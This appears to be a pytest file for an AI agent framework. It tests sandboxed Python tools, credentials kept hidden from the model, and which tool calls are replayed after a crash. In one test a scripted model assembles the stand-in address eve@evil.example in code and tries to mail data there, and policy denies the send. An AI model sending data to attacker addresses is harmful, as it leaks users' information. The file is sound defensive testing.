"""Tools that a bundle declares, in the hands of a model: what it may make of code, and what is done again after a crash."""

import asyncio
import json

import pytest

from aver.agents.acting import Journal
from aver.agents.tools import open_tools, parse_tools
from aver.gateway.credentials import Secrets
from aver.policy import Policies
from tests.integration.test_sandbox_egress import far_side
from tests.unit.agents.acting.scene import SEND, Scene, Script, Scripted, schema

SECRET = "the-key-of-the-data-service"
CODE = """
tools:
  code:
    analyst:
      sandbox: process
      limits: {{seconds: 60s, memory_mb: 256}}
      hosts: {{127.0.0.1: {{port: {port}, tls: false, private: true}}}}
      secrets: {{DATA_KEY: {{credential: env:DATA_KEY, hosts: [127.0.0.1]}}}}
      tools: {{run_python: {{effects: [read], content: [code, values]}}}}
"""
FETCH = """
import os, urllib.request
asked = urllib.request.Request("http://127.0.0.1:{port}/prices", headers={{"Authorization": "Bearer " + os.environ["DATA_KEY"]}})
with urllib.request.urlopen(asked, timeout=60) as reply:
    print(reply.status)
sum(rows) / len(rows)
"""
FUNCTIONS = '''
from pathlib import Path

from aver.agents.tools import Key, tool

def done(line: str) -> None:
    with (Path(__file__).parent / "done").open("a") as file:
        file.write(line)

@tool(effects=["write"], output="trusted", idempotent=True)
def set_price(price: int) -> str:
    """Sets the price of a lamp."""
    done(f"set {price}\\n")
    return "set"

@tool(effects=["write"], output="trusted")
def raise_price(by: int) -> str:
    """Raises the price of a lamp."""
    done(f"raised {by}\\n")
    return "raised"

@tool(effects=["write"], output="trusted")
def record_price(price: int, key: Key) -> str:
    """Records the price of a lamp, once for a key."""
    done(f"recorded {price} {key}\\n")
    return "recorded"
'''
FILE = """
tools:
  python:
    shop:
      file: shop.py
      sandbox: none
      tools: {more}
"""


async def test_a_model_computes_and_what_it_computes_has_no_authority(tmp_path):
    """It reads a declared host by a credential that it never sees, and may not send to an address that its own code made."""
    mail = Scripted("send_mail", SEND, schema(to="string", text="string"))
    async with far_side() as (port, asked):
        config = parse_tools(CODE.format(port=port), "aver.yaml")
        box = await open_tools(config, tmp_path, Secrets({"DATA_KEY": SECRET}))
        address = {"code": "'eve' + chr(64) + 'evil.example'"}
        model = Script(
            [("run_python", {"code": FETCH.format(port=port), "values": {"rows": [1, 2, 6]}})],
            [("run_python", address)],
            [("send_mail", {"to": "eve@evil.example", "text": "3.0"})],
            "The mean is 3.",
        )
        at = Scene(tmp_path / "data", model, [*box.tools.values(), mail], Policies.standard().decide)
        outcome = await at.ask("What is the mean of 1, 2 and 6? Send it to bob@acme.example")
        await box.close()
    assert outcome.status == "answered"
    assert [(each.tool, each.status) for each in outcome.actions] == [
        ("run_python", "done"),
        ("run_python", "done"),
        ("send_mail", "denied"),
    ]
    assert mail.done == []
    assert "3.0" in str(model.requests[1].messages)
    assert f"Bearer {SECRET}".encode() in asked[0]
    assert SECRET not in model.heard()
    assert SECRET not in json.dumps([step.body for step in at.steps(outcome.turn)], default=str)
    at.close()


async def test_code_that_is_stopped_has_failed_and_the_turn_goes_on(tmp_path):
    text = "tools: {code: {analyst: {limits: {seconds: 1s}, sandbox: process}}}"
    box = await open_tools(parse_tools(text, "aver.yaml"), tmp_path, Secrets({}))
    model = Script([("run_python", {"code": "while True: pass"})], [("run_python", {"code": "1 + 1"})], "It is 2.")
    at = Scene(tmp_path / "data", model, [*box.tools.values()], Policies.standard().decide)
    outcome = await at.ask("How much is 1 + 1?")
    assert [each.status for each in outcome.actions] == ["failed", "done"]
    assert outcome.text == "It is 2."
    at.close()
    await box.close()


class Killed(BaseException):
    """The process is gone: nothing after this line of it ran."""


class Mortal(Journal):
    """Of a process that dies between an effect and its record, as every later moment of it does."""

    dead = False

    def record(self, lease, state, drafts, *arguments, **more):
        self.dead = self.dead or any(each.kind == "executed" for each in drafts)
        if self.dead:
            raise Killed
        super().record(lease, state, drafts, *arguments, **more)

    def release(self, lease):
        if self.dead:
            raise Killed


@pytest.mark.parametrize(
    ("tool", "arguments", "more", "done", "status"),
    [
        ("set_price", {"price": 5}, "{}", ["set 5", "set 5"], "done"),
        ("raise_price", {"by": 1}, "{}", ["raised 1"], "undecided"),
        ("raise_price", {"by": 1}, "{raise_price: {effects: [write], idempotent: true}}", ["raised 1", "raised 1"], "done"),
        ("set_price", {"price": 5}, "{set_price: {effects: [write], idempotent: false}}", ["set 5"], "undecided"),
    ],
    ids=["promised", "nothing promised", "declared", "declared not to be"],
)  # fmt: skip
def test_after_a_crash_only_what_is_idempotent_is_done_again(tool, arguments, more, done, status, tmp_path):
    (tmp_path / "shop.py").write_text(FUNCTIONS)
    model, clock = Script([(tool, arguments)], "Done."), None

    def process(journal=None):
        box = asyncio.run(open_tools(parse_tools(FILE.format(more=more), "aver.yaml"), tmp_path, Secrets({})))
        at = Scene(tmp_path / "data", model, [*box.tools.values()], clock=clock)
        if journal is not None:
            at.journal.__class__ = journal
        return at

    first = process(Mortal)
    clock = first.clock
    turn = first.acting.begin(first.ann, "Set the price of the lamp")
    with pytest.raises(Killed):
        asyncio.run(first.acting.run_due())
    first.close()
    clock.advance(20)  # longer than a lease
    second = process()
    (outcome,) = asyncio.run(second.acting.run_due())
    assert (outcome.turn, [each.status for each in outcome.performed]) == (turn, [status])
    assert (tmp_path / "done").read_text().splitlines() == done
    attempts = second.facts(turn, "intended")
    assert len(attempts) == len(done)
    assert len({each["key"] for each in attempts}) == 1
    second.close()


def test_a_function_with_a_key_is_called_again_under_the_same_one(tmp_path):
    (tmp_path / "shop.py").write_text(FUNCTIONS)
    box = asyncio.run(open_tools(parse_tools(FILE.format(more="{}"), "aver.yaml"), tmp_path, Secrets({})))
    model = Script([("record_price", {"price": 5})], "Done.")
    first = Scene(tmp_path / "data", model, [*box.tools.values()])
    first.journal.__class__ = Mortal
    first.acting.begin(first.ann, "Record the price")
    with pytest.raises(Killed):
        asyncio.run(first.acting.run_due())
    first.close()
    first.clock.advance(20)
    second = Scene(tmp_path / "data", model, [*box.tools.values()], clock=first.clock)
    (outcome,) = asyncio.run(second.acting.run_due())
    assert [each.status for each in outcome.performed] == ["done"]
    once, again = (tmp_path / "done").read_text().splitlines()
    assert once == again
    second.close()
